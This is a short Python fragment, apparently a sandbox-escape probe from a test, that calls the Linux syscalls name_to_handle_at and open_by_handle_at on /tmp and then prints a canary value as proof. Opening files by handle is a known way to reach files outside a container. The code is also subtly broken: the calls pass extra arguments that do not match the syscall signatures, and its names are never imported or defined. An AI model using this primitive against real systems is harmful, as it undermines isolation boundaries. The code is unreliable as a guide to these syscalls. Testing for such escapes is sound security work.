# opens a file by its handle
# where: /tmp has handles
# with: syscall
h = (ctypes.c_uint32 * 34)(128)
m = ctypes.c_int()
syscall(303, 264, -100, b'/tmp', h, ctypes.byref(m), 0)
syscall(304, 265, -100, h, 0)
print(CANARY_PROOF)
